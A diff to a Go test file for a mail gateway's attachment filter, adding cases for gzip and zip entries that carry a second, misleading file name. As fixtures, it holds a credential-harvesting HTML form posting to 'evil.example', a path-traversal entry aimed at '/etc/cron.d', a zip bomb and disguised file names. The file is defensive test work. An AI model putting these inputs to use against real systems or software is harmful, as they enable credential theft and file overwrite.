@@ -3,6 +3,7 @@ package filters
 import (
 	"archive/zip"
 	"bytes"
+	"compress/gzip"
 	"context"
 	"encoding/base64"
 	"errors"
@@ -73,6 +74,21 @@ func zipOf(t testing.TB, entries ...string) string {
 	return b.String()
 }
 
+// gzipOf packs content with its name.
+func gzipOf(t testing.TB, name, content string) string {
+	t.Helper()
+	var b bytes.Buffer
+	w := gzip.NewWriter(&b)
+	w.Name = name
+	if _, err := w.Write([]byte(content)); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return b.String()
+}
+
 // carrying is a message with files: name, media type and content of each.
 func carrying(t testing.TB, files ...string) *gateway.Envelope {
 	t.Helper()
@@ -104,6 +120,9 @@ func TestAttachments(t *testing.T) {
 	locked := []byte(zipOf(t, "secret.txt", "hello"))
 	locked[6] |= 1 // the flag of an encrypted entry, in both headers
 	locked[bytes.Index(locked, []byte("PK\x01\x02"))+8] |= 1
+	// A document whose entry has another name before its content: a reader of streams sees a script.
+	renamed := strings.Replace(zipOf(t, "[Content_Types].xml", "<Types/>", "read.me", "alert()"), "read.me", "evil.js", 1)
+	packed := gzipOf(t, "report.txt", "MsgBox 1")
 	for name, c := range map[string]struct {
 		check    string
 		policy   string
@@ -120,24 +139,29 @@ func TestAttachments(t *testing.T) {
 			measures: "type=executable type=image extension=jpg mismatch=content is application/vnd.microsoft.portable-executable", parts: "[2]"},
 		"a program in archives": {check: "type", files: []string{"note.txt", "text/plain", "hello", "invoice.zip", "application/zip", nested}, reason: gateway.AttachmentType, args: "c.exe|executable", outcome: gateway.Quarantine,
 			measures: "type=text extension=txt type=archive extension=zip type=executable extension=exe", parts: "[3]", path: "invoice.zip > a.zip > b/c.exe: executable"},
-		"a script by its name":    {check: "type", files: []string{"order.js", "text/plain", "var a"}, reason: gateway.AttachmentType, args: "order.js|script", outcome: gateway.Quarantine, measures: "type=text type=script extension=js", parts: "[2]"},
-		"a name that is allowed":  {check: "type", policy: "allow = [\"*.JS\"]", files: []string{"order.js", "text/plain", "var a"}, measures: "type=text type=script extension=js", parts: "[]"},
-		"an extension":            {check: "type", policy: "deny = []\nextensions = [\"one\"]", files: []string{"a.one", octets, "x"}, reason: gateway.AttachmentType, args: "a.one|one", outcome: gateway.Quarantine, measures: "type=text type=onenote extension=one", parts: "[2]"},
-		"refused":                 {check: "type", policy: "action = \"reject\"", files: []string{"setup.exe", octets, exe}, reason: gateway.AttachmentType, args: "setup.exe|executable", outcome: gateway.Reject, measures: "type=executable extension=exe", parts: "[2]"},
-		"documents":               {check: "type", files: []string{"a.pdf", "application/pdf", "%PDF-1.4\n", "b.csv", "text/csv", "a,b\r\nc,d\r\n"}, measures: "type=pdf extension=pdf type=text extension=csv", parts: "[]"},
-		"a double extension":      {check: "name", files: []string{"invoice.pdf.exe", octets, exe}, reason: gateway.AttachmentName, args: "invoice.pdf.exe|double_extension", outcome: gateway.Quarantine, measures: "trick=double_extension", parts: "[2]"},
-		"a trick in an archive":   {check: "name", files: []string{"a.zip", "application/zip", zipOf(t, "annex\u202efdp.exe", exe)}, reason: gateway.AttachmentName, args: "annex???fdp.exe|turned", outcome: gateway.Quarantine, measures: "trick=turned", parts: "[2]"},
-		"a pattern":               {check: "name", policy: "deny = [\"Invoice*.zip\"]", files: []string{"INVOICE-1.zip", "application/zip", zipOf(t, "a", "b")}, reason: gateway.AttachmentName, args: "INVOICE-1.zip|a name that is not taken", outcome: gateway.Quarantine, parts: "[2]"},
-		"encrypted":               {check: "encrypted", files: []string{"s.zip", "application/zip", string(locked)}, reason: gateway.AttachmentEncrypted, args: "secret.txt|", outcome: gateway.Quarantine, parts: "[2]"},
-		"encrypted and allowed":   {check: "encrypted", policy: "allow = [\"s.zip\"]", files: []string{"s.zip", "application/zip", string(locked)}, parts: "[]"},
-		"not encrypted":           {check: "encrypted", files: []string{"s.zip", "application/zip", nested}, parts: "[]"},
-		"too deep":                {check: "archive", files: []string{"d.zip", "application/zip", deep}, reason: gateway.AttachmentLimits, args: "in.zip|depth", outcome: gateway.Quarantine, measures: "limit=depth", parts: "[2]"},
-		"a bomb":                  {check: "archive", files: []string{"d.zip", "application/zip", zipOf(t, "zeros", strings.Repeat("\x00", 8<<20))}, reason: gateway.AttachmentLimits, args: "zeros|ratio", outcome: gateway.Quarantine, measures: "limit=ratio", parts: "[2]"},
-		"a path that leaves":      {check: "archive", files: []string{"d.zip", "application/zip", zipOf(t, "../../etc/cron.d/x", "x")}, reason: gateway.AttachmentPath, args: "x|", outcome: gateway.Quarantine, parts: "[2]"},
-		"a broken archive":        {check: "archive", files: []string{"d.zip", "application/zip", nested[:len(nested)/2]}, reason: gateway.AttachmentBroken, args: "d.zip|zip: ", measures: "broken=", parts: "[2]"},
-		"a picture that is a zip": {check: "archive", files: []string{"p.gif", "image/gif", "GIF89a\x01\x00\x01\x00\x00\x00\x00" + strings.Repeat("x", 200) + zipOf(t, "a.txt", "x")}, measures: "trailing=", parts: "[]"},
-		"a form for a password":   {check: "active", files: []string{"login.html", "text/html", "<html><form action=https://evil.example/x><input type=password name=p></form></html>"}, reason: gateway.AttachmentForm, args: "login.html|", outcome: gateway.Quarantine, parts: "[2]"},
-		"script in a page":        {check: "active", files: []string{"a.html", "text/html", "<html><script>document.title='x'</script></html>"}, reason: gateway.AttachmentScript, args: "a.html|", measures: "script=", parts: "[2]"},
+		"a script by its name":     {check: "type", files: []string{"order.js", "text/plain", "var a"}, reason: gateway.AttachmentType, args: "order.js|script", outcome: gateway.Quarantine, measures: "type=text type=script extension=js", parts: "[2]"},
+		"a name that is allowed":   {check: "type", policy: "allow = [\"*.JS\"]", files: []string{"order.js", "text/plain", "var a"}, measures: "type=text type=script extension=js", parts: "[]"},
+		"an extension":             {check: "type", policy: "deny = []\nextensions = [\"one\"]", files: []string{"a.one", octets, "x"}, reason: gateway.AttachmentType, args: "a.one|one", outcome: gateway.Quarantine, measures: "type=text type=onenote extension=one", parts: "[2]"},
+		"refused":                  {check: "type", policy: "action = \"reject\"", files: []string{"setup.exe", octets, exe}, reason: gateway.AttachmentType, args: "setup.exe|executable", outcome: gateway.Reject, measures: "type=executable extension=exe", parts: "[2]"},
+		"documents":                {check: "type", files: []string{"a.pdf", "application/pdf", "%PDF-1.4\n", "b.csv", "text/csv", "a,b\r\nc,d\r\n"}, measures: "type=pdf extension=pdf type=text extension=csv", parts: "[]"},
+		"a double extension":       {check: "name", files: []string{"invoice.pdf.exe", octets, exe}, reason: gateway.AttachmentName, args: "invoice.pdf.exe|double_extension", outcome: gateway.Quarantine, measures: "trick=double_extension", parts: "[2]"},
+		"a trick in an archive":    {check: "name", files: []string{"a.zip", "application/zip", zipOf(t, "annex\u202efdp.exe", exe)}, reason: gateway.AttachmentName, args: "annex???fdp.exe|turned", outcome: gateway.Quarantine, measures: "trick=turned", parts: "[2]"},
+		"a pattern":                {check: "name", policy: "deny = [\"Invoice*.zip\"]", files: []string{"INVOICE-1.zip", "application/zip", zipOf(t, "a", "b")}, reason: gateway.AttachmentName, args: "INVOICE-1.zip|a name that is not taken", outcome: gateway.Quarantine, parts: "[2]"},
+		"a second name in gz":      {check: "type", files: []string{"evil.vbs.gz", "application/gzip", packed}, reason: gateway.AttachmentType, args: "report.txt|script", outcome: gateway.Quarantine, parts: "[2]", path: "evil.vbs.gz > report.txt (or evil.vbs): script"},
+		"a pattern of a second":    {check: "name", policy: "deny = [\"evil*\"]", files: []string{"evil.vbs.gz", "application/gzip", packed}, reason: gateway.AttachmentName, args: "evil.vbs.gz|", outcome: gateway.Quarantine, parts: "[2]"},
+		"a second is no exception": {check: "type", policy: "allow = [\"report.txt\"]", files: []string{"evil.vbs.gz", "application/gzip", packed}, reason: gateway.AttachmentType, args: "report.txt|script", outcome: gateway.Quarantine, parts: "[2]"},
+		"a second in a document":   {check: "type", files: []string{"order.zip", "application/zip", renamed}, reason: gateway.AttachmentType, args: "evil.js|script", outcome: gateway.Quarantine, parts: "[2]"},
+		"it is told":               {check: "archive", files: []string{"order.zip", "application/zip", renamed}, measures: "name_twice=in the directory read.me, before the content evil.js", parts: "[]"},
+		"encrypted":                {check: "encrypted", files: []string{"s.zip", "application/zip", string(locked)}, reason: gateway.AttachmentEncrypted, args: "secret.txt|", outcome: gateway.Quarantine, parts: "[2]"},
+		"encrypted and allowed":    {check: "encrypted", policy: "allow = [\"s.zip\"]", files: []string{"s.zip", "application/zip", string(locked)}, parts: "[]"},
+		"not encrypted":            {check: "encrypted", files: []string{"s.zip", "application/zip", nested}, parts: "[]"},
+		"too deep":                 {check: "archive", files: []string{"d.zip", "application/zip", deep}, reason: gateway.AttachmentLimits, args: "in.zip|depth", outcome: gateway.Quarantine, measures: "limit=depth", parts: "[2]"},
+		"a bomb":                   {check: "archive", files: []string{"d.zip", "application/zip", zipOf(t, "zeros", strings.Repeat("\x00", 8<<20))}, reason: gateway.AttachmentLimits, args: "zeros|ratio", outcome: gateway.Quarantine, measures: "limit=ratio", parts: "[2]"},
+		"a path that leaves":       {check: "archive", files: []string{"d.zip", "application/zip", zipOf(t, "../../etc/cron.d/x", "x")}, reason: gateway.AttachmentPath, args: "x|", outcome: gateway.Quarantine, parts: "[2]"},
+		"a broken archive":         {check: "archive", files: []string{"d.zip", "application/zip", nested[:len(nested)/2]}, reason: gateway.AttachmentBroken, args: "d.zip|zip: ", measures: "broken=", parts: "[2]"},
+		"a picture that is a zip":  {check: "archive", files: []string{"p.gif", "image/gif", "GIF89a\x01\x00\x01\x00\x00\x00\x00" + strings.Repeat("x", 200) + zipOf(t, "a.txt", "x")}, measures: "trailing=", parts: "[]"},
+		"a form for a password":    {check: "active", files: []string{"login.html", "text/html", "<html><form action=https://evil.example/x><input type=password name=p></form></html>"}, reason: gateway.AttachmentForm, args: "login.html|", outcome: gateway.Quarantine, parts: "[2]"},
+		"script in a page":         {check: "active", files: []string{"a.html", "text/html", "<html><script>document.title='x'</script></html>"}, reason: gateway.AttachmentScript, args: "a.html|", measures: "script=", parts: "[2]"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			d := &Deps{}
